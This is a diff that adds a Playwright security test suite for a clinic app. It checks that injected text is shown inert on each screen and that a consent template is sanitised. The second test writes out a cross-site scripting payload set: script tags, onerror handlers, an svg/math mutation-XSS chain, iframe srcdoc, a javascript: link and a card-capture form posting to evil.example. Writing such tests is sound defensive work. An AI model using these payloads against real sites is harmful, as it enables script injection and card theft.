@@ -1,0 +1,100 @@
+import { expect, test, type Page } from '@playwright/test';
+
+import { call } from './api';
+import { home, nobody, stamp } from './clinics';
+import { expectNothingRan, hostile } from './hostile';
+import { anySignature, ownersPage } from './seed';
+import { watch } from './watch';
+
+const titled = (page: Page, name: string | RegExp) => expect(page.getByRole('heading', { level: 1, name })).toBeVisible();
+
+test('words that pretend to be code stay words on every screen', async ({ page, context, browser }, info) => {
+  test.setTimeout(180_000);
+  const mark = stamp(info.project.name);
+  const seeding = await ownersPage(browser);
+  const { id } = await call<{ id: number }>(seeding, 'POST', '/api/patients', { first_name: hostile, last_name: `${hostile} ${mark}`, email: `x.${mark}@example.com` });
+  await call(seeding, 'POST', '/api/gfe', { patient_id: id, vitals: hostile, ros_skin: hostile, pe_skin: hostile });
+  const { id: treatment } = await call<{ id: number }>(seeding, 'POST', '/api/treatments', {
+    patient_id: id, treatment_type: 'Botox', areas: hostile, notes: hostile, lot: hostile, units: 1, provider_signature: await anySignature(seeding, 100),
+  });
+  const template = await call<{ id: number }>(seeding, 'POST', '/api/consents/templates', { name: `${hostile} ${mark}`, body: `<p>Read this. ${hostile}</p>` });
+  await call(seeding, 'POST', `/api/consents/${id}/issue`, { templateId: template.id });
+  const { member } = await call<{ member: { id: number } }>(seeding, 'POST', '/api/team', {
+    first_name: hostile, last_name: mark, email: `member.${mark}@example.com`, role: 'Staff', department: 'Support', status: 'inactive', hire_date: '2026-01-05',
+    license_number: hostile, specialties: hostile, notes: hostile,
+  });
+
+  const seen = await watch(context, home);
+  const visit = async (path: string, heading: string | RegExp, act?: () => Promise<unknown>) => {
+    await page.goto(home + path);
+    await titled(page, heading);
+    await act?.();
+    await expectNothingRan(page);
+  };
+  const shown = page.getByText(hostile);
+  await visit(`/patients?search=${mark}`, 'Clients', () => expect(shown.first()).toBeVisible());
+  await visit(`/patients?search=${encodeURIComponent(hostile)}`, 'Clients', () => expect(page.getByRole('searchbox')).toHaveValue(hostile));
+  await visit('/', 'Dashboard', () => expect(page.getByText(/ pending$/)).toBeVisible());
+  await visit(`/patients/${id}`, mark, async () => {
+    await expect(page.getByRole('region', { name: 'Treatment History' }).getByText(hostile).first()).toBeVisible();
+    await expect(page.getByRole('table', { name: 'Consents' }).getByText(hostile).first()).toBeVisible();
+    await page.getByRole('button', { name: /^Approve: / }).click();
+    await expect(page.getByRole('dialog', { name: 'Approve treatment' }).getByText(hostile).first()).toBeVisible();
+  });
+  await visit(`/gfe/${id}`, 'Good Faith Exam', async () => {
+    await page.getByRole('button', { name: 'Start from the last exam' }).click();
+    await expect(page.getByRole('textbox', { name: 'Skin PE' })).toHaveValue(hostile);
+    await page.getByRole('button', { name: 'Save exam' }).click();
+    await expect(page.getByRole('button', { name: 'Write another exam' })).toBeVisible();
+    await expect(shown.first()).toBeVisible();
+  });
+  await visit('/digital-consents', 'Consent templates', async () => {
+    await expect(shown.first()).toBeVisible();
+    await page.getByRole('button', { name: `Edit ${hostile} ${mark}` }).click();
+    await expect(page.getByRole('region', { name: 'Preview' })).toContainText('Read this.');
+  });
+  await visit('/team', 'Team', async () => {
+    await page.getByRole('button', { name: `Edit ${hostile} ${mark}` }).click();
+    await expect(page.getByLabel('Notes')).toHaveValue(hostile);
+  });
+  seen.expectCalm();
+
+  await call(seeding, 'DELETE', `/api/consents/templates/${template.id}`);
+  await call(seeding, 'DELETE', `/api/team/${member.id}`);
+  expect(treatment).toBeGreaterThan(0);
+  await seeding.context().close();
+});
+
+test('code planted in a consent does not run for the patient', async ({ browser }, info) => {
+  const mark = stamp(info.project.name);
+  const seeding = await ownersPage(browser);
+  const { id } = await call<{ id: number }>(seeding, 'POST', '/api/patients', { first_name: 'Ada', last_name: mark });
+  const body = `<h2 onclick="window.ranByMistake='click'">Title</h2><p style="position:fixed;inset:0">Words</p><script>window.ranByMistake='script'</script><img src=x onerror="window.ranByMistake='image'">
+    <svg><script>window.ranByMistake='svg'</script></svg><math><mtext><table><mglyph><style><!--</style><img src=x onerror="window.ranByMistake='math'">--></mglyph></table></mtext></math>
+    <iframe srcdoc="<script>parent.ranByMistake='frame'</script>"></iframe><a href="javascript:window.ranByMistake='link'">Press</a><form action="https://evil.example/"><input name=card><button>Pay</button></form>`;
+  const template = await call<{ id: number }>(seeding, 'POST', '/api/consents/templates', { name: `Planted ${mark}`, body });
+  const { portal_url } = await call<{ portal_url: string }>(seeding, 'POST', `/api/consents/${id}/issue`, { templateId: template.id });
+  await call(seeding, 'DELETE', `/api/consents/templates/${template.id}`);
+  await seeding.context().close();
+
+  // Once as the server cleans it, and once as if the server had not: the page cleans by itself.
+  for (const trusting of [false, true]) {
+    const context = await browser.newContext({ storageState: nobody });
+    const seen = await watch(context, home);
+    const page = await context.newPage();
+    if (trusting) await page.route('**/api/portal/consent/*', (route) => route.fulfill({ json: { template: body, clinic_name: 'Aurelle', patient_first_name: 'Ada', signed_at: null } }));
+    await page.goto(portal_url);
+    await titled(page, 'Hello Ada');
+    const text = page.getByRole('region', { name: 'Consent text' });
+    await expect(text).toContainText('Words');
+    await text.getByText('Title').click();
+    const left = await text.evaluate((sheet) => [...sheet.querySelectorAll('*')].map((one) => ({ tag: one.tagName, attributes: one.attributes.length })));
+    const allowed = new Set(['P', 'BR', 'HR', 'H1', 'H2', 'H3', 'H4', 'UL', 'OL', 'LI', 'B', 'STRONG', 'I', 'EM', 'U', 'BLOCKQUOTE', 'TABLE', 'THEAD', 'TBODY', 'TR', 'TH', 'TD']);
+    expect(left.filter(({ tag, attributes }) => !allowed.has(tag) || attributes > 0)).toEqual([]);
+    await expectNothingRan(page);
+    // Taken apart in a document without a window, the planted code meets the page's policy there and is reported: nothing else happens.
+    expect({ strays: seen.strays, refused: seen.refused }).toEqual({ strays: [], refused: [] });
+    if (!trusting) seen.expectCalm();
+    await context.close();
+  }
+});
